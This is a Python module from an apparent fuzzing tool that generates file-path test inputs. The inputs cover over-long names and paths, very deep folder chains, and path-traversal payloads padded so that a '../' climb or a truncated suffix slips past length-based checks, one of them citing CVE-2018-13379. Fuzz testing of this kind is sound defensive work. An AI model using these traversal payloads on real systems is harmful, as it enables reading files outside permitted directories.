"""Names and paths at the limits of file systems, and climbs hidden behind or before padding."""

from collections.abc import Iterator

from capfuzz.attacks.techniques.compose import base, straight, way
from capfuzz.attacks.techniques.registry import Kind, technique

_NAME = 255  # bytes in a name on most file systems (NAME_MAX)
_LIMITS = (260, 1024, 4096)  # MAX_PATH of Windows, PATH_MAX of BSD and of Linux


@technique(
    "name-too-long",
    kind=Kind.PATH,
    group="lengths",
    cwe="CWE-1284",
    needs="raises where the system refuses a name, or cuts it to fit",
)
def name_too_long(root: str, target: str) -> Iterator[str]:
    """Use a name one byte over 255, counted in characters and in UTF-8, as leaf and as folder."""
    del target
    yield f"{base(root)}/" + "n" * (_NAME + 1)
    yield f"{base(root)}/" + "\u00e9" * (_NAME // 2 + 1)
    yield f"{base(root)}/" + "n" * (_NAME + 1) + "/data.txt"
    yield f"{base(root)}/" + "\U0001f4c4" * 64


@technique(
    "path-too-long",
    kind=Kind.PATH,
    group="lengths",
    cwe="CWE-1284",
    needs="raises where the system refuses a path, or cuts it to fit",
)
def path_too_long(root: str, target: str) -> Iterator[str]:
    """Pad an honest path to exactly a limit and one over, with ``./`` and with slashes."""
    del target
    for limit in _LIMITS:
        for length in (limit - 1, limit):
            yield _padded(f"{base(root)}/", "data.txt", length)
    yield f"{base(root)}/sub{'/' * _LIMITS[-1]}file.txt"


@technique(
    "climb-beyond-limit",
    kind=Kind.PATH,
    group="traversal-late",
    cwe="CWE-131",
    needs="judges the beginning of a path, up to some length, and opens all of it",
)
def climb_beyond_limit(root: str, target: str) -> Iterator[str]:
    """Pad with ``./`` so that the climb begins where a fixed buffer ends."""
    ups, down = way(root, target)
    climb = f"{'../' * ups}{'/'.join(down)}"
    for limit in _LIMITS:
        yield _padded(f"{base(root)}/", climb, limit + len(climb))


@technique(
    "suffix-beyond-limit",
    kind=Kind.PATH,
    group="traversal",
    cwe="CWE-131",
    needs="cuts the path to a buffer's length after it has appended or checked an ending",
    refs=("CVE-2018-13379",),
)
def suffix_beyond_limit(root: str, target: str) -> Iterator[str]:
    """Pad behind the target, so that a harmless ending falls off the end of a buffer."""
    for limit in _LIMITS:
        place = straight(root, target)
        yield place + "/." * ((limit - len(place)) // 2 + 1) + "/.txt"


@technique(
    "cut-to-target",
    kind=Kind.PATH,
    group="truncation",
    cwe="CWE-131",
    needs="cuts the path to a buffer's length between check and effect",
)
def cut_to_target(root: str, target: str) -> Iterator[str]:
    """Pad so that the path is honest in full length and ends on the target when it is cut."""
    ups, down = way(root, target)
    climb = f"{'../' * ups}{'/'.join(down)}"
    back = "/".join(("", *[".."] * len(down), base(root).lstrip("/"), "data.txt"))
    for limit in _LIMITS:
        yield _padded(f"{base(root)}/", climb, limit - 1) + back


@technique(
    "deep-path",
    kind=Kind.PATH,
    group="lengths",
    cwe="CWE-674",
    needs="walks a path by recursion, or keeps a folder open for each level",
)
def deep_path(root: str, target: str) -> Iterator[str]:
    """Go down more levels than a recursion or a table of open folders holds."""
    del target
    yield f"{base(root)}/{'d/' * 1100}leaf.txt"


def _padded(head: str, tail: str, length: int) -> str:
    """Return ``head`` and ``tail`` with ``./`` between them, ``length`` characters in all."""
    pairs, odd = divmod(length - len(head) - len(tail), 2)
    return f"{head}{'./' * pairs}{'/' * odd}{tail}"
